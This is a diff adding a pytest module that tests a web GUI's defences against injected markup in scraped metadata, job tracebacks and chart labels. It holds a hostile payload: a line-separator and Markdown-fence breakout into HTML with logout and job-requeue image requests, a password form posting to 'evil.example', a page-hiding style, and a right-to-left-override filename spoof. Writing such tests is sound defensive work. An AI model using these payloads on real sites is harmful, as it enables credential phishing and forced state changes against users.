@@ -1,0 +1,136 @@
+"""The GUI's defences of issue W3-X (docs/security.md): hostile text shown as text (real
+Chromium: a scraped value with U+2028 and a Markdown fence that used to close `ui.code`'s
+block and become HTML), no state change on GET, the headers on every answer (CSP, no framing:
+a page on another port cannot frame the node page), `/health/ready` saying only ready or not,
+the `Secure` cookie setting."""
+
+from __future__ import annotations
+
+import contextlib
+import http.server
+import json
+import re
+import subprocess
+import sys
+import threading
+import time
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.gui_browser import child_env, chromium, free_port, have_browser, page_text, serving, sign_in, wait_text
+from tests.gui_fixtures import FROM_THE_GUI, PASSWORDS, gui_home, make_home, sign_in as sign_in_user, user  # noqa: F401
+
+pytestmark = pytest.mark.timeout(300)
+BROWSER = pytest.mark.needs(have_browser(), "no chromium + chromium-driver (Debian packages; `make deps` installs them)")
+
+#: the reviewer's payload: a line separator and a fence end `ui.code`'s Markdown block; what
+#: follows was HTML (a sign-out, a requeue of every failed ingest, a form posting elsewhere, a style)
+LS = "\u2028"
+PAYLOAD = (f"x{LS}```{LS}<img id=injected-a src=/logout><img id=injected-b src='/rq/requeue/ingest'>"
+           "<form id=injected-c action='http://evil.example/login' method=post><input name=password></form>"
+           f"<style id=injected-d>body{{display:none}}</style>{LS}```{LS}y")
+#: a title that reverses its end on screen (U+202E RIGHT-TO-LEFT OVERRIDE)
+SPOOF = "report\u202egpj.exe"
+NODE = "ab" * 32
+INJECTED = ("return [...document.querySelectorAll('[id^=injected], img[src$=\"/logout\"], img[src*=requeue], "
+            "form[action*=evil]')].map(e => e.outerHTML)")
+
+
+def _insert_node(conn) -> None:
+    conn.execute("INSERT INTO source (name) VALUES ('gallery') ON CONFLICT DO NOTHING")
+    node_id = conn.execute("INSERT INTO node (sha256, is_virtual, is_physical, created_at) "
+                           "VALUES (decode(%s, 'hex'), false, true, now()) RETURNING node_id", [NODE]).fetchone()[0]
+    conn.execute("INSERT INTO physical_content (node_id, size, file_type) VALUES (%s, 10, 'json')", [node_id])
+    conn.execute("INSERT INTO common_metadata (node_id, source_id, title, author, raw_metadata) "
+                 "SELECT %s, source_id, %s, 'a', %s FROM source WHERE name = 'gallery'",
+                 [node_id, SPOOF, json.dumps({"description": PAYLOAD, PAYLOAD: 1})])
+    conn.commit()
+
+
+def _failed_job(redis_conn, queue: str, job_id: str, exc_string: str):
+    """A job of `queue` in its failed registry, its last result the failure `exc_string`."""
+    from rq import Queue
+    from rq.job import Job, JobStatus
+    from rq.results import Result
+
+    job = Job.create("builtins.print", id=job_id, connection=redis_conn, origin=queue, meta={"kind": "verify"})
+    job.save()
+    job.set_status(JobStatus.FAILED)
+    Result.create_failure(job, 3600, exc_string)
+    Queue(queue, connection=redis_conn).failed_job_registry.add(job, exc_string=exc_string)
+    return job
+
+
+@pytest.fixture
+def served(hoard_home: Path, pg, redis_conn):
+    """`hoard gui` on a free port, the hostile node in its database."""
+    port = free_port()
+    cfg_path = make_home(hoard_home, pg, port=port, refresh_s=2.0)
+    _insert_node(pg)
+    with serving(cfg_path, hoard_home / "gui.log", port) as url:
+        yield url
+
+
+def _csp_reports(driver) -> list[str]:
+    return [e["message"] for e in driver.get_log("browser") if "Content Security Policy" in e["message"]]
+
+
+@BROWSER
+def test_scraped_markup_stays_text_in_chromium(served, redis_conn) -> None:
+    """The node page's raw metadata and the run page's traceback hold the U+2028 payload: no
+    element of it is in the DOM, the separators show as `\\u2028`, the RTL override as
+    `\\u202e`; the viewer stays signed in, the failed ingest job stays failed; the pages run
+    under the CSP without a violation."""
+    url = served
+    ingest_job = _failed_job(redis_conn, "ingest", "ingest-failed-before", "boom")
+    run = _failed_job(redis_conn, "maintenance", "maint-verify-hostile", f"Traceback:\n  File \"{PAYLOAD}\"\nOSError")
+    with chromium() as d:
+        sign_in(d, url, "otto", PASSWORDS["otto"])
+        d.get(f"{url}/node/{NODE}")
+        wait_text(d, "Metadata")
+        time.sleep(1)  # images (had any been made) load
+        assert d.execute_script(INJECTED) == []
+        shown = d.find_element("css selector", "pre").text
+        assert "\\u2028```\\u2028<img id=injected-a src=/logout>" in shown and LS not in shown, shown
+        assert "report\\u202egpj.exe" in page_text(d)
+        assert not _csp_reports(d)
+
+        d.get(f"{url}/runs/verify/{run.id}")
+        wait_text(d, "Traceback (of its last job)")
+        time.sleep(1)
+        assert d.execute_script(INJECTED) == []
+        assert "\\u2028<img id=injected-a src=/logout>" in d.find_element("css selector", "pre").text
+        assert not _csp_reports(d)
+
+        d.get(f"{url}/storage")
+        wait_text(d, "SSD zones")  # still signed in
+        assert "/login" not in d.current_url
+    from rq.job import JobStatus
+
+    assert ingest_job.get_status(refresh=True) == JobStatus.FAILED
+
+
+def test_charts_never_make_markup_of_names() -> None:
+    """Every chart's tooltip is off or drawn on the canvas (ECharts' default tooltip is HTML):
+    a source, disk or relative named with markup is never parsed; a relative's name has its
+    hidden characters written out."""
+    from datetime import date
+
+    from gui import charts
+
+    evil = "<img src=/logout>\u202e"
+    options = [charts.disk_usage([{"label": evil, "used_bytes": 1, "free_bytes": 2}]),
+               charts.zone_usage({"3A": {"used_ratio": 0.5}}, (0.8, 0.9, 0.95)),
+               charts.ingested_per_day([{"day": date(2026, 1, 1), "source": evil, "items": 3}]),
+               charts.disk_history([]), charts.zone_history([], (0.8, 0.9, 0.95)),
+               charts.lineage({"node_id": 1, "children": [], "parents": [
+                   {"node_id": 2, "via": 1, "depth": 1, "rel": evil, "is_virtual": True, "virtual_kind": "post",
+                    "stable_id": evil, "sha256": "ab" * 32, "file_type": None}]})]
+    for o in options:
+        assert o["tooltip"] == {"show": False} or o["tooltip"]["renderMode"] == "richText", o["tooltip"]
+    graph = options[-1]["series"][0]
+    assert "\\u202e" in graph["data"][1]["name"] and "\u202e" not in json.dumps(graph, ensure_ascii=False)
